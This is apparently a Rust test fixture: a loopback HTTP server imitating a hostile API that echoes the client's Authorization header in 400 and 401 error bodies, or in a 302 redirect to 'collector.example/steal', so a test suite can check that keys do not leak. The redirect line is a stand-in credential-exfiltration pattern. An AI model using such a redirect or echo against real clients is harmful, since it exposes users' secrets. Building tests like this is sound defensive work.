//! A hostile API of the suite's own on loopback: every request is answered with what
//! its Authorization header held, the way a server that wants the key to show in CI
//! logs would answer. Plain threads and raw HTTP/1.1, one request per connection.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// How the server echoes the key.
#[derive(Debug, Clone, Copy)]
pub(super) enum Echo {
    /// 400 with the header in the error body's `detail`.
    Rejects,
    /// 401 with the header in `detail` (a refused key: the run stalls).
    Unauthorized,
    /// 302 to a `Location` that carries the header.
    Redirects,
}

pub(super) struct EchoServer {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl EchoServer {
    pub(super) fn start(mode: Echo) -> EchoServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (log, stopped) = (Arc::clone(&seen), Arc::clone(&stop));
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                if stopped.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(stream) = stream else { continue };
                let log = Arc::clone(&log);
                std::thread::spawn(move || answer(stream, mode, &log));
            }
        });
        EchoServer { addr, seen, stop }
    }

    pub(super) fn base_url(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// The Authorization headers received so far (empty ones for requests without).
    pub(super) fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

impl Drop for EchoServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Wake the accept loop so that it sees the flag.
        let _ = TcpStream::connect(self.addr);
    }
}

fn answer(stream: TcpStream, mode: Echo, log: &Mutex<Vec<String>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut reader = BufReader::new(stream);
    let mut authorization = String::new();
    let mut length = 0usize;
    let mut line = String::new();
    loop {
        line.clear();
        match reader.read_line(&mut line) {
            Ok(0) | Err(_) => return,
            Ok(_) => {}
        }
        let header = line.trim_end();
        if header.is_empty() {
            break;
        }
        if let Some((name, value)) = header.split_once(':') {
            match name.trim().to_ascii_lowercase().as_str() {
                "authorization" => authorization = value.trim().to_owned(),
                "content-length" => length = value.trim().parse().unwrap_or(0),
                _ => {}
            }
        }
    }
    let mut body = vec![0; length.min(1 << 20)];
    if reader.read_exact(&mut body).is_err() {
        return;
    }
    log.lock().unwrap().push(authorization.clone());
    let detail = |text: String| serde_json::json!({ "detail": text }).to_string();
    let (status, extra, body) = match mode {
        Echo::Rejects => (
            "400 Bad Request",
            String::new(),
            detail(format!("invalid request from {authorization}")),
        ),
        Echo::Unauthorized => (
            "401 Unauthorized",
            String::new(),
            detail(format!("the key in `{authorization}` is not valid")),
        ),
        Echo::Redirects => (
            "302 Found",
            format!(
                "Location: https://collector.example/steal?auth={}\r\n",
                authorization.replace(' ', "%20")
            ),
            String::new(),
        ),
    };
    let reply = format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\n{extra}Content-Length: {}\r\n\
         Connection: close\r\n\r\n{body}",
        body.len()
    );
    let mut stream = reader.into_inner();
    let _ = stream.write_all(reply.as_bytes());
    let _ = stream.flush();
}
